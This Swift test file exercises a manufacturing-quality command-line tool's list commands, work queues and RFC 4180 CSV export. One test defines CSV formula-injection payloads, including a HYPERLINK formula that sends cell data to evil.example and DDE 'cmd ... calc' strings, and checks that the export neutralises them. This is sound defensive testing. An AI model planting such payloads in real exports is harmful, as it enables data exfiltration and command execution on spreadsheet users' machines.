import Foundation
import PostgresClient
import Testing
import TestSupport

/// `gmp todo` (alias `inbox`), the `list` commands with their filters, and CSV as
/// spreadsheets meet it (issue 16, work queues, lists and item 7's CSV part): the built
/// binary, its output and exit codes.
@Suite("work queues, lists and CSV, end to end")
struct ListAndQueueCommandTests {
    typealias Site = DonorLotCommandTests.Site
    typealias CreatedLot = DonorLotCommandTests.CreatedLot

    /// The rows of an RFC 4180 document (CRLF line ends, quoted fields), each a list of
    /// field values: an independent reading of what gmp wrote.
    static func parseCSV(_ text: String) throws -> [[String]] {
        var rows: [[String]] = []
        var row: [String] = []
        var field = ""
        var quoted = false
        var scalars = Array(text.unicodeScalars)[...]
        while let c = scalars.popFirst() {
            if quoted {
                if c == "\"" {
                    if scalars.first == "\"" { scalars.removeFirst(); field.unicodeScalars.append("\"") } else { quoted = false }
                } else {
                    field.unicodeScalars.append(c)
                }
            } else if c == "\"" && field.isEmpty {
                quoted = true
            } else if c == "," {
                row.append(field); field = ""
            } else if c == "\r" {
                guard scalars.popFirst() == "\n" else { throw TestSetupError("a bare CR outside quotes in:\n\(text)") }
                row.append(field); field = ""
                rows.append(row); row = []
            } else if c == "\n" {
                throw TestSetupError("a bare LF outside quotes in:\n\(text)")
            } else {
                field.unicodeScalars.append(c)
            }
        }
        guard field.isEmpty && row.isEmpty && !quoted else { throw TestSetupError("the last line has no CRLF:\n\(text)") }
        return rows
    }

    /// The rows of a CSV run as dictionaries by header.
    static func records(_ run: GMPRun) throws -> [[String: String]] {
        let rows = try parseCSV(run.stdout)
        let header = try #require(rows.first, "\(run)")
        return rows.dropFirst().map { Dictionary(uniqueKeysWithValues: zip(header, $0)) }
    }

    static func jsonArray(_ run: GMPRun) throws -> [[String: Any]] {
        try #require(try JSONSerialization.jsonObject(with: Data(run.stdout.utf8)) as? [[String: Any]], "\(run)")
    }

    @Test("lot, batch, donor, unit, deviation and material lists filter by status, product, dates and donor; table, --json, --csv")
    func lists() throws {
        try ShipCommandTests.withShipSite { ship in
            let site = ship.site
            let lot = try ship.filledLot()
            let other = try ship.qs.eligibleLot()
            let today = DonorLotCommandTests.day(0)

            // gmp lot list and its alias; the printed id is typed back.
            let lots = try Self.jsonArray(try site.expectSuccess { try site.gmp(site.qa, ["lot", "list", "--json"]) })
            #expect(Set(lots.compactMap { $0["lot"] as? String }) == [lot.keyed, other.keyed], "\(lots)")
            let batch = try site.expectSuccess { try site.gmp(site.qa, ["batch", "list", "--status", "quarantine"]) }
            #expect(batch.stdout.contains(lot.keyed) && batch.stdout.contains("LOT"), "\(batch)")
            try site.expectSuccess { try site.gmp(site.qa, ["lot", "show", try #require(lots.first?["lot"] as? String)]) }
            let none = try site.expectSuccess { try site.gmp(site.qa, ["lot", "list", "--status", "released"]) }
            #expect(none.stdout == "no lots\n", "\(none)")
            let future = try site.expectSuccess { try site.gmp(site.qa, ["lot", "list", "--from", DonorLotCommandTests.day(1), "--json"]) }
            #expect(try Self.jsonArray(future).isEmpty, "\(future)")
            let window = try site.expectSuccess {
                try site.gmp(site.qa, ["lot", "list", "--from", today, "--to", today, "--product", "cells", "--csv"])
            }
            #expect(try Self.records(window).count == 2, "\(window)")
            _ = try site.expectRefused(exit: 64, mentioning: ["--to"]) {
                try site.gmp(site.qa, ["lot", "list", "--from", today, "--to", DonorLotCommandTests.day(-1)])
            }
            _ = try site.expectRefused(exit: 64) { try site.gmp(site.qa, ["lot", "list", "--status", "sold"]) }

            // gmp donor list: the error fix "gmp donor list shows them" is now true.
            _ = try site.expectRefused(exit: 65, mentioning: ["no donor D26-999999", "gmp donor list shows them"]) {
                try site.gmp(site.qa, ["trace", "donor", "D26-999999"])
            }
            let donors = try Self.jsonArray(try site.expectSuccess { try site.gmp(site.qa, ["donor", "list", "--json"]) })
            #expect(donors.count == 2, "a birth mother and her newborn: \(donors)")
            let mother = try #require(donors.first { $0["birth_mother"] is NSNull }?["donor"] as? String, "\(donors)")
            let family = try Self.records(try site.expectSuccess { try site.gmp(site.qa, ["donor", "list", "--donor", mother, "--csv"]) })
            #expect(family.count == 2 && family.contains { $0["birth_mother"] == mother }, "\(family)")
            #expect(!(try site.expectSuccess { try site.gmp(site.qa, ["donor", "list"]) }.stdout.contains(DonorLotCommandTests.motherName)))
            let lotsOfMother = try Self.jsonArray(try site.expectSuccess { try site.gmp(site.qa, ["lot", "list", "--donor", mother, "--json"]) })
            #expect(lotsOfMother.count == 2, "\(lotsOfMother)")

            // gmp unit list: by lot, state; the unit id works as input.
            let units = try Self.jsonArray(try site.expectSuccess { try site.gmp(site.qa, ["unit", "list", "--lot", lot.keyed, "--json"]) })
            #expect(units.count == 10, "\(units)")
            #expect(units.allSatisfy { $0["lot"] as? String == lot.keyed && $0["state"] as? String == "in_hand" }, "\(units)")
            let unit = try #require(units.first?["unit"] as? String)
            try site.expectSuccess { try site.gmp(site.qa, ["unit", "show", unit]) }
            let stored = try site.expectSuccess { try site.gmp(site.qa, ["unit", "list", "--status", "stored"]) }
            #expect(stored.stdout == "no units\n", "\(stored)")

            // gmp deviation list: status, lot, donor, dates; lots as typed back.
            let opened = try site.expectSuccess {
                try site.gmp(site.qa, ["deviation", "open", "--title", "Incubator door ajar", "--lot", other.keyed, "--json"])
            }
            let deviation = try #require(try opened.json()["id"] as? String, "\(opened)")
            let open = try Self.jsonArray(try site.expectSuccess {
                try site.gmp(site.qa, ["deviation", "list", "--status", "open", "--donor", mother, "--from", today, "--json"])
            })
            #expect(open.map { $0["id"] as? String } == [deviation], "\(open)")
            #expect(open.first?["lots"] as? [String] == [other.keyed], "\(open)")
            let closed = try site.expectSuccess { try site.gmp(site.qa, ["deviation", "list", "--status", "closed", "--csv"]) }
            #expect(try Self.records(closed).isEmpty && closed.stdout.hasPrefix("id,status,kind,title"), "\(closed)")

            // gmp material list: status and type.
            let certificate = try ship.qs.file("coa.pdf", "%PDF-1.4 certificate\n")
            try site.expectSuccess {
                try site.gmp(site.operatorAccount, ["material", "type", "add", "MEM-ALPHA", "--name", "alpha-MEM",
                                                    "--category", "culture_medium", "--storage", "2-8 C"])
            }
            let material = try MaterialCommandTests.receive(site, certificate: certificate)
            let quarantined = try Self.jsonArray(try site.expectSuccess {
                try site.gmp(site.qa, ["material", "list", "--status", "quarantine", "--product", "MEM-ALPHA", "--json"])
            })
            #expect(quarantined.map { $0["id"] as? String } == [material], "\(quarantined)")
            let released = try site.expectSuccess { try site.gmp(site.qa, ["material", "list", "--status", "released"]) }
            #expect(released.stdout == "no material lots\n", "\(released)")
        }
    }

    @Test("gmp todo and gmp inbox show each person the queues of their roles, with ids to type back; --json and --csv")
    func workQueues() throws {
        try ShipCommandTests.withShipSite { ship in
            let site = ship.site
            let qs = ship.qs

            func todo(_ person: TestAccount, _ extra: [String] = []) throws -> [[String: Any]] {
                try Self.jsonArray(try site.expectSuccess { try site.gmp(person, ["todo", "--json"] + extra) })
            }
            func items(_ queue: String, _ rows: [[String: Any]]) -> [String] {
                rows.filter { $0["queue"] as? String == queue }.compactMap { $0["item"] as? String }
            }

            let nothing = try site.expectSuccess { try site.gmp(site.operatorAccount, ["inbox"]) }
            #expect(nothing.stdout == "nothing to do\n", "\(nothing)")

            // A lot made to the end, its results recorded: one by QC for qc2 as analyst.
            let lot = try ship.filledLot()
            try site.expectSuccess { try DonorLotCommandTests.step(in: site, lot, "cryopreservation") }
            let recorded = try qs.record(lot, "cd105", "98.2", unit: "%")
            let forQC2 = try qs.record(lot, "cd45", "0.4", unit: "%", ["--analyst", qs.qc2.id])

            // QC's second person verifies what they did not record; the named analyst confirms.
            let qc2 = try todo(qs.qc2)
            #expect(items("qc_to_confirm", qc2) == [String(forQC2.id)], "\(qc2)")
            #expect(items("qc_to_verify", qc2) == [String(recorded.id)], "\(qc2)")
            #expect(items("qc_to_verify", try todo(site.qc)).isEmpty, "nobody verifies their own result")
            try site.expectSuccess { try site.signed(qs.qc2, ["qc", "confirm", String(forQC2.id)]) }
            #expect(items("qc_to_confirm", try todo(qs.qc2)).isEmpty)

            // QA: the lot to release (typed back into gmp release check), deviations,
            // material lots in quarantine.
            let opened = try site.expectSuccess {
                try site.gmp(site.qa, ["deviation", "open", "--title", "Late sampling", "--lot", lot.keyed, "--json"])
            }
            let deviation = try #require(try opened.json()["id"] as? String)
            let certificate = try qs.file("coa.pdf", "%PDF-1.4 certificate\n")
            try site.expectSuccess {
                try site.gmp(site.operatorAccount, ["material", "type", "add", "MEM-ALPHA", "--name", "alpha-MEM",
                                                    "--category", "culture_medium", "--storage", "2-8 C"])
            }
            let material = try MaterialCommandTests.receive(site, certificate: certificate, expires: 10)
            let qa = try todo(site.qa)
            #expect(items("lot_to_release", qa) == [lot.keyed], "\(qa)")
            #expect(items("deviation_open", qa) == [deviation], "\(qa)")
            #expect(items("material_quarantine", qa) == [material], "\(qa)")
            #expect(items("qc_to_verify", qa).count == 2, "\(qa)")
            let check = try qs.check(lot)
            #expect(check.status == 65 && check.stderr.contains("release of lot") && check.stderr.contains(deviation), "\(check)")
            #expect(items("lot_to_release", try todo(site.operatorAccount)).isEmpty, "release is QA's")

            // Expiring within the window asked for: the material lot in 10 days.
            #expect(items("material_expiring", try todo(site.operatorAccount, ["--within", "30"])) == [material])
            #expect(items("material_expiring", try todo(site.operatorAccount, ["--within", "5"])).isEmpty)

            // A hand-over waits for its receiver only.
            let unit = ship.unit(lot, 1)
            let handOver = try site.expectSuccess {
                try site.signed(site.operatorAccount, ["custody", "hand-over", "--unit", unit, "--to", site.qc.id,
                                                       "--reason", "to the QC lab", "--json"])
            }
            let transfer = try #require(try handOver.json()["transfer"] as? Int, "\(handOver)")
            #expect(items("transfer_to_receive", try todo(site.qc)) == [String(transfer)])
            #expect(items("transfer_to_receive", try todo(site.qa)).isEmpty)

            // A role proposal waits for a second administrator, not its proposer.
            let admin2 = try TestAccount.create(in: site.database, roles: ["admin"])
            try site.expectSuccess { try site.gmp(site.admin, ["user", "grant", site.operatorAccount.id, "qc", "--reason", "cover"]) }
            #expect(items("role_to_decide", try todo(admin2)) == ["\(site.operatorAccount.id) qc"])
            #expect(items("role_to_decide", try todo(site.admin)).isEmpty)

            // The same queue as CSV and as a table.
            let csv = try Self.records(try site.expectSuccess { try site.gmp(site.qa, ["inbox", "--csv"]) })
            #expect(csv.contains { $0["queue"] == "lot_to_release" && $0["item"] == lot.keyed }, "\(csv)")
            let table = try site.expectSuccess { try site.gmp(site.qa, ["todo"]) }
            #expect(table.stdout.hasPrefix("QUEUE") && table.stdout.contains(deviation), "\(table)")
        }
    }

    static let hostile = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "line one\r\nline \"two\", three",
    ]

    @Test("CSV neutralises formula-like values (OWASP), quotes per RFC 4180, keeps plain negative numbers, --bom on request")
    func hostileCSV() throws {
        try QCReleaseCommandTests.withQCSite { qs in
            let site = qs.site
            let lot = try qs.eligibleLot()
            var ids: [String: String] = [:]
            for text in Self.hostile {
                let opened = try site.expectSuccess {
                    try site.gmp(site.qa, ["deviation", "open", "--title", "Hostile outcome", "--lot", lot.keyed, "--json"])
                }
                let id = try #require(try opened.json()["id"] as? String, "\(opened)")
                try site.expectSuccess {
                    try site.gmp(site.qa, ["deviation", "close", id, "--outcome=" + text, "--password-stdin"],
                                 stdin: site.qa.password + "\n")
                }
                ids[id] = text
            }
            let run = try site.expectSuccess { try site.gmp(site.qa, ["deviation", "list", "--csv"]) }
            #expect(!run.stdout.hasPrefix(CSVBOM.text), "no BOM unless asked")
            let rows = try Self.records(run)
            for (id, text) in ids {
                let outcome = try #require(rows.first { $0["id"] == id }?["outcome"], "\(run)")
                let dangerous = text.unicodeScalars.first.map { "=+-@\t\r".unicodeScalars.contains($0) } ?? false
                #expect(outcome == (dangerous ? "'" + text : text), "\(id): \(outcome.debugDescription)")
            }

            let bom = try site.expectSuccess { try site.gmp(site.qa, ["deviation", "list", "--csv", "--bom"]) }
            #expect(Array(bom.stdout.utf8.prefix(3)) == [0xEF, 0xBB, 0xBF], "\(bom)")
            #expect(String(bom.stdout.dropFirst()) == run.stdout)
            _ = try site.expectRefused(exit: 64, mentioning: ["--bom"]) { try site.gmp(site.qa, ["deviation", "list", "--bom"]) }
            let audit = try site.expectSuccess { try site.gmp(site.qa, ["audit", "report", "--table", "gmp.deviation", "--csv", "--bom"]) }
            #expect(Array(audit.stdout.utf8.prefix(3)) == [0xEF, 0xBB, 0xBF], "\(audit)")

            // A storage device's −150 °C stays a number in the occupancy CSV.
            let operatorSession = try site.operatorAccount.connect()
            try operatorSession.execute("SELECT gmp.add_location('SITE-A', 'site', NULL, 'Main site', NULL, NULL, NULL, NULL)")
            try operatorSession.execute("SELECT gmp.add_location('DS-01', 'shipper', 'SITE-A', 'Dry shipper 1', -150, '{cells}', NULL, NULL)")
            let occupancy = try Self.records(try site.expectSuccess { try site.gmp(site.qa, ["storage", "occupancy", "SITE-A", "--csv"]) })
            #expect(occupancy.first { $0["device"] == "DS-01" }?["max_celsius"] == "-150.00", "\(occupancy)")
        }
    }
}

extension ListAndQueueCommandTests {
    @Test("qc list, ship list, excursion list, spec list and audit alerts take --csv (with --bom), one row per item of --json")
    func moreListsTakeCSV() throws {
        try ShipCommandTests.withShipSite { ss in
            let site = ss.site
            let lot = try ss.releasedLot()
            let shipment = try ss.shipment()
            /// The CSV's records, after checking the run and that --csv and --json exclude each other.
            func csv(_ person: TestAccount, _ arguments: [String], exit: Int32 = 0) throws -> [[String: String]] {
                let run = try site.gmp(person, arguments + ["--csv", "--bom"])
                #expect(run.status == exit, "\(run)")
                #expect(run.stdout.hasPrefix(CSVBOM.text), "--bom: \(run)")
                expectOneLineError(try site.gmp(person, arguments + ["--csv", "--json"]), exit: 64, mentioning: ["--csv", "--json"])
                return try Self.records(GMPRun(status: run.status, stdout: String(run.stdout.dropFirst()), stderr: run.stderr))
            }
            let results = try csv(site.qa, ["qc", "list", lot.keyed])
            let resultsJSON = try JSONSerialization.jsonObject(with: Data(try site.gmp(site.qa, ["qc", "list", lot.keyed, "--json"]).stdout.utf8))
            #expect(results.count == (resultsJSON as? [Any])?.count && !results.isEmpty, "\(results)")
            #expect(results.allSatisfy { $0["lot"]?.replacingOccurrences(of: " ", with: "") == lot.keyed && $0["din"] == lot.din
                && $0["verdict"] == "pass" }, "\(results)")
            let shipments = try csv(site.qa, ["ship", "list"])
            #expect(shipments.map { $0["id"] } == [shipment] && shipments.first?["status"] == "created", "\(shipments)")
            #expect(shipments.first?["consignee"] == ShipCommandTests.consignee, "\(shipments)")
            let excursions = try csv(site.qa, ["excursion", "list"])
            #expect(excursions.isEmpty, "\(excursions)")
            let specs = try csv(site.qa, ["spec", "list"])
            #expect(specs.contains { $0["id"] == "E2E-DP@1" && $0["status"] == "approved" }, "\(specs)")
            // Role grants at set-up are alerts: exit 65, as without --csv.
            let alerts = try csv(site.qa, ["audit", "alerts", "--all"], exit: 65)
            #expect(alerts.contains { $0["kind"] == "role_granted" && $0["alert"] == "true" }, "\(alerts)")
        }
    }
}

/// The UTF-8 byte order mark as a Swift string sees it.
enum CSVBOM {
    static let text = "\u{FEFF}"
}
